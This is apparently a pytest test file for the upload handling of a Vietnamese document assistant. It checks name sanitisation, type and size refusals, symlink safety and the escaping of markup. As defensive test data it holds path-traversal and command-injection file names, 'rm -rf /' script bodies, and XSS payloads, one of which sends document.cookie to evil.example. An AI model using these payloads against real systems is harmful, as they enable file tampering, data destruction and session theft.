"""Uploads: stored only directly under the documents folder, with sanitised names; unsupported types and
oversized files refused with a message and nothing written; markup in an uploaded document stays text.

Library level (assistant/uploads.py) and through Assistant.add_document on a temporary copy of the seed index.
"""

from __future__ import annotations

import os
import shutil
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from assistant.uploads import UploadError, safe_filename, save_upload, save_uploads

SEED_DOCUMENTS = Path(__file__).resolve().parent.parent / "documents"
CONTENT = "Giao Vụ Pháp chế chủ trì rà soát văn bản.\n".encode()
LIMIT = 1_000_000

# (name as sent by a browser or a hostile client, the name it must be stored under)
HOSTILE_NAMES = [
    ("../../etc/passwd.txt", "passwd.txt"),
    ("..\\..\\x.md", "x.md"),
    ("/etc/cron.d/evil.txt", "evil.txt"),
    ("C:\\Windows\\System32\\evil.md", "evil.md"),
    ("\\\\server\\share\\unc.txt", "unc.txt"),
    ("docs/../../../../tmp/deep.html", "deep.html"),
    ("a\x00b.txt", "a_b.txt"),
    ("nul\x00.txt\x00.exe", None),  # NUL tricks must not turn an .exe into a .txt, nor the reverse
    ("line\nbreak\r\n.txt", "line_break_.txt"),
    ("tab\tand  spaces .md", "tab_and_spaces_.md"),
    ("Chỉ thị 01.txt", "Chỉ_thị_01.txt"),
    (unicodedata.normalize("NFD", "Quyết định số 5.docx"), "Quyết_định_số_5.docx"),  # stored NFC
    ("..txt", "txt"),  # leading dots stripped: no hidden file, and no suffix left, so refused
    ("<script>alert(1)</script>.md", "script_.md"),  # "/" of "</script>" is a separator: last component
    ("$(rm -rf ~);`id`.txt", "rm_-rf_id_.txt"),
]


def tree(root: Path) -> set[str]:
    """Every path under root, relative, as a set (to assert nothing else was written)."""
    return {str(p.relative_to(root)) for p in root.rglob("*")}


# -- safe_filename and save_upload ---------------------------------------------------------------------
@pytest.mark.parametrize(("name", "expected"), HOSTILE_NAMES)
def test_hostile_names_are_stored_directly_under_the_documents_folder(
    tmp_path: Path, name: str, expected: str | None
) -> None:
    documents = tmp_path / "root" / "documents"
    documents.mkdir(parents=True)
    outside_before = tree(tmp_path)
    try:
        stored = save_upload(documents, name, CONTENT, LIMIT).path
    except UploadError as exc:
        assert expected is None or Path(expected).suffix == "", f"{name!r} refused: {exc}"
        assert tree(tmp_path) == outside_before, "a refused upload wrote something"
        return
    assert expected is not None, f"{name!r} was accepted as {stored}"
    assert stored.parent == documents.resolve()
    assert stored.name == expected
    assert unicodedata.is_normalized("NFC", stored.name)
    assert not any(c in stored.name for c in "/\\\x00\n\r\t ")
    assert stored.read_bytes() == CONTENT
    assert tree(tmp_path) == outside_before | {str(stored.relative_to(tmp_path))}


@pytest.mark.parametrize("name", ["", "   ", "..", ".", "../..", "/", "\\", "\x00", "\n", "._.", "///..///"])
def test_names_with_nothing_left_are_refused(tmp_path: Path, name: str) -> None:
    with pytest.raises(UploadError, match="Invalid file name"):
        safe_filename(name)
    with pytest.raises(UploadError):
        save_upload(tmp_path / "documents", name, CONTENT, LIMIT)
    assert tree(tmp_path) <= {"documents"}


LONG_TITLE = (
    "Quyết định số 1234/QĐ-BCT về việc ban hành Kế hoạch hành động của Bộ Công Thương thực hiện Nghị quyết "
    "của Chính phủ về phát triển công nghiệp hỗ trợ giai đoạn 2025-2030.docx"
)


@pytest.mark.parametrize("name", ["đ" * 500 + ".txt", "ệ" * 100 + ".txt", "ệ" * 300 + ".pdf", LONG_TITLE])
def test_long_names_are_shortened_keeping_their_suffix(tmp_path: Path, name: str) -> None:
    """A long Vietnamese title is a normal file name: it is stored (shortened to fit the file system's
    255 bytes), not refused as an unsupported type nor failing with 'File name too long'."""
    stored = save_upload(tmp_path, name, CONTENT, LIMIT).path
    assert stored.parent == tmp_path.resolve()
    assert len(stored.name.encode("utf-8")) <= 255
    assert stored.suffix == Path(name).suffix, stored.name
    assert stored.read_bytes() == CONTENT
    assert tree(tmp_path) == {stored.name}, "a temporary file was left behind"


@pytest.mark.parametrize(
    "name", ["tool.exe", "run.sh", "x.txt.exe", "payload.sh", "lib.so", "macro.docm", "page.php", "README", "x.TXT.bat"]
)
def test_unsupported_suffixes_are_refused_and_nothing_is_written(tmp_path: Path, name: str) -> None:
    documents = tmp_path / "documents"
    with pytest.raises(UploadError) as refused:
        save_upload(documents, name, b"#!/bin/sh\necho pwned\n", LIMIT)
    message = str(refused.value)
    assert ".txt" in message and ".pdf" in message, message  # says what is accepted
    assert not documents.exists() or tree(documents) == set()


def test_upper_case_supported_suffixes_are_accepted(tmp_path: Path) -> None:
    assert save_upload(tmp_path, "BAO CAO.TXT", CONTENT, LIMIT).source == "BAO_CAO.TXT"


def test_a_file_over_the_limit_is_refused_with_a_message_and_nothing_written(tmp_path: Path) -> None:
    documents = tmp_path / "documents"
    documents.mkdir()
    (documents / "keep.txt").write_bytes(CONTENT)
    limit = 20_000_000
    for size in (limit + 1, limit + 400_000, 3 * limit):
        with pytest.raises(UploadError) as refused:
            save_upload(documents, "lon.txt", b"a" * size, limit)
        message = str(refused.value)
        assert "quá lớn" in message and "lon.txt" in message, message
        assert "20 MB" in message, message  # the limit is named
        shown = float(message.split("(", 1)[1].split(" MB", 1)[0].replace(",", "."))
        assert shown > 20, f"the size shown must exceed the limit it breaks: {message}"
        assert tree(documents) == {"keep.txt"}, "an oversized upload left a file behind"
    # exactly at the limit is accepted
    assert save_upload(documents, "lon.txt", b"a" * limit, limit).path.stat().st_size == limit


def test_a_planted_symlink_is_never_written_through(tmp_path: Path) -> None:
    """A link in the documents folder pointing outside it: the upload under its name gets another name, the link
    and the file it points to are untouched."""
    documents = tmp_path / "documents"
    documents.mkdir()
    secret = tmp_path / "secret.txt"
    secret.write_text("do not touch", encoding="utf-8")
    (documents / "link.txt").symlink_to(secret)
    saved = save_upload(documents, "link.txt", CONTENT, LIMIT)
    assert saved.source == "link-2.txt" and saved.renamed
    assert not saved.path.is_symlink() and saved.path.read_bytes() == CONTENT
    assert (documents / "link.txt").is_symlink()
    assert secret.read_text(encoding="utf-8") == "do not touch"
    assert tree(tmp_path) == {"documents", "documents/link.txt", "documents/link-2.txt", "secret.txt"}


def test_a_taken_name_is_never_overwritten(tmp_path: Path) -> None:
    first = save_upload(tmp_path, "a.txt", b"one", LIMIT)
    second = save_upload(tmp_path, "a.txt", b"two", LIMIT)
    third = save_upload(tmp_path, "a.txt", b"three", LIMIT)
    assert (first.source, second.source, third.source) == ("a.txt", "a-2.txt", "a-3.txt")
    assert (first.renamed, second.renamed, third.renamed) == (False, True, True)
    assert [(tmp_path / n).read_bytes() for n in ("a.txt", "a-2.txt", "a-3.txt")] == [b"one", b"two", b"three"]
    assert tree(tmp_path) == {"a.txt", "a-2.txt", "a-3.txt"}, "a temporary file was left behind"


def test_the_same_bytes_again_write_nothing(tmp_path: Path) -> None:
    save_upload(tmp_path, "a.txt", b"one", LIMIT)
    save_upload(tmp_path, "a.txt", b"two", LIMIT)
    again = save_upload(tmp_path, "a.txt", b"two", LIMIT)
    assert again.source == "a-2.txt" and again.existing
    assert tree(tmp_path) == {"a.txt", "a-2.txt"}


def test_names_that_clean_to_the_same_name_and_a_batch_with_one_name_twice_keep_every_file(tmp_path: Path) -> None:
    saved = save_uploads(tmp_path, [("a b.txt", b"1"), ("a_b.txt", b"2"), ("a?b.txt", b"3"), ("x.md", b"4"),
                                    ("x.md", b"5")], LIMIT)
    assert [s.source for s in saved] == ["a_b.txt", "a_b-2.txt", "a_b-3.txt", "x.md", "x-2.md"]
    assert [s.path.read_bytes() for s in saved] == [b"1", b"2", b"3", b"4", b"5"]


def test_a_batch_with_one_refused_file_writes_nothing(tmp_path: Path) -> None:
    with pytest.raises(UploadError, match="Chỉ nhận tệp"):
        save_uploads(tmp_path, [("ok.txt", b"1"), ("tool.exe", b"MZ")], LIMIT)
    assert tree(tmp_path) == set()


def test_a_numbered_long_name_still_fits(tmp_path: Path) -> None:
    name = "ệ" * 300 + ".txt"
    first, second = save_upload(tmp_path, name, b"1", LIMIT), save_upload(tmp_path, name, b"2", LIMIT)
    assert second.source != first.source and second.source.endswith("-2.txt")
    assert len(second.source.encode("utf-8")) <= 255


# -- through Assistant.add_document ----------------------------------------------------------------------
NEW_DOCUMENT = (
    "QUYẾT ĐỊNH VỀ BẢO VỆ DỮ LIỆU CÁ NHÂN\n\n"
    "Giao Cục An toàn thông tin chủ trì, phối hợp với Vụ Pháp chế và Văn phòng Bộ xây dựng quy chế "
    "bảo vệ dữ liệu cá nhân trong các hệ thống thông tin của Bộ.\n"
)
NEW_QUESTION = "Đơn vị nào chủ trì xây dựng quy chế bảo vệ dữ liệu cá nhân?"

SCRIPTY_MD = (
    '# <script>alert("tiêu đề")</script> Kế hoạch số hoá kho văn bản\n\n'
    '<img src=x onerror="alert(1)">\n'
    '<div onclick="steal()">Giao Trung tâm Lưu trữ điện tử chủ trì, phối hợp với Văn phòng Bộ xây dựng '
    "kho dữ liệu văn bản điện tử <b>dùng chung</b> của Bộ.</div>\n"
    "<script>document.location='http://evil.example/?c='+document.cookie</script>\n"
    "<iframe src=\"javascript:alert(2)\"></iframe> [bấm vào đây](javascript:alert(3)) $x$\n"
)
SCRIPTY_QUESTION = "Đơn vị nào chủ trì xây dựng kho dữ liệu văn bản điện tử dùng chung?"


@pytest.fixture
def assistant(seed_index: Path, embed_model: Any, tmp_path: Path) -> Iterator[Any]:
    """An Assistant over a private copy of the seed index and documents (add_document writes to both)."""
    from assistant.service import Assistant
    from assistant.settings import Settings

    index_dir, documents = tmp_path / "upload-index", tmp_path / "upload-documents"
    shutil.copytree(seed_index, index_dir)
    shutil.copytree(SEED_DOCUMENTS, documents)
    yield Assistant.from_settings(
        Settings(index_dir=index_dir, documents_dir=documents, max_upload_mb=1), embed_model
    )


def test_add_document_with_a_traversal_name_stays_in_the_folder_and_answers(assistant: Any, tmp_path: Path) -> None:
    documents = assistant.settings.documents_dir
    before = tree(tmp_path)
    report = assistant.add_document("../../../bao_ve_du_lieu.txt", NEW_DOCUMENT.encode("utf-8"))
    assert report.added == ["bao_ve_du_lieu.txt"], report.summary()
    assert (documents / "bao_ve_du_lieu.txt").read_text(encoding="utf-8") == NEW_DOCUMENT
    new_paths = tree(tmp_path) - before
    outside = {p for p in new_paths if not p.startswith(("upload-documents", "upload-index"))}
    assert outside == set(), f"written outside the documents folder and the index: {outside}"
    assert {p for p in new_paths if p.startswith("upload-documents")} == {"upload-documents/bao_ve_du_lieu.txt"}

    answer = assistant.ask(NEW_QUESTION)
    assert answer.answered and (answer.lead or "").startswith("Cục An toàn thông tin"), answer.answer
    assert answer.citations[0].source == "bao_ve_du_lieu.txt"


def test_add_document_keeps_a_vietnamese_name(assistant: Any) -> None:
    report = assistant.add_document("Chỉ thị 01.txt", NEW_DOCUMENT.encode("utf-8"))
    assert report.added == ["Chỉ_thị_01.txt"], report.summary()
    assert "Chỉ_thị_01.txt" in {d.source for d in assistant.documents()}


@pytest.mark.parametrize(("name", "content", "match"), [
    ("cai_dat.exe", b"MZ\x90\x00", "Chỉ nhận tệp"),
    ("chay.sh", b"#!/bin/sh\nrm -rf /\n", "Chỉ nhận tệp"),
    ("lon.txt", b"a" * 1_000_001, "quá lớn"),
])
def test_add_document_refuses_without_touching_folder_or_index(
    assistant: Any, name: str, content: bytes, match: str
) -> None:
    documents = assistant.settings.documents_dir
    files_before, chunks_before = tree(documents), assistant.store.count()
    with pytest.raises(UploadError, match=match):
        assistant.add_document(name, content)
    assert tree(documents) == files_before
    assert assistant.store.count() == chunks_before
    assert assistant.refresh() is False


def test_an_html_only_scripty_markdown_upload_shows_as_text(assistant: Any) -> None:
    """Markup in an uploaded .md is text: the chat message built from it has no element that could run."""
    from bs4 import BeautifulSoup

    from assistant.ui.app import AppHandlers

    report = assistant.add_document("<b onclick=x>ke hoach.md", SCRIPTY_MD.encode("utf-8"))
    assert report.added == ["b_onclick_x_ke_hoach.md"], report.summary()
    answer = assistant.ask(SCRIPTY_QUESTION)
    assert answer.answered and (answer.lead or "").startswith("Trung tâm Lưu trữ điện tử"), answer.answer
    assert answer.citations[0].source == "b_onclick_x_ke_hoach.md"

    message = AppHandlers(assistant).format_answer(answer)
    soup = BeautifulSoup(message, "html.parser")
    assert soup.find_all(["script", "img", "iframe", "a", "object", "embed", "style", "b"]) == []
    handlers = [(tag.name, attr) for tag in soup.find_all(True) for attr in tag.attrs if attr.lower().startswith("on")]
    assert handlers == [], f"event handler attributes in the message: {handlers}"
    assert "javascript:" not in " ".join(str(v) for tag in soup.find_all(True) for v in tag.attrs.values())
    shown = soup.get_text()
    assert "Trung tâm Lưu trữ điện tử" in shown
    assert "<script>" in shown or "<div onclick" in shown, "the markup should be visible as text"
    # the documents table lists the title as plain text too (the table shows strings, never HTML)
    titles = {d.source: d.title for d in assistant.documents()}
    assert "Kế hoạch số hoá kho văn bản" in titles["b_onclick_x_ke_hoach.md"]


def test_uploads_never_land_in_the_repository_documents(assistant: Any) -> None:
    before = sorted(os.listdir(SEED_DOCUMENTS))
    assistant.add_document("khong_vao_repo.txt", NEW_DOCUMENT.encode("utf-8"))
    assert sorted(os.listdir(SEED_DOCUMENTS)) == before
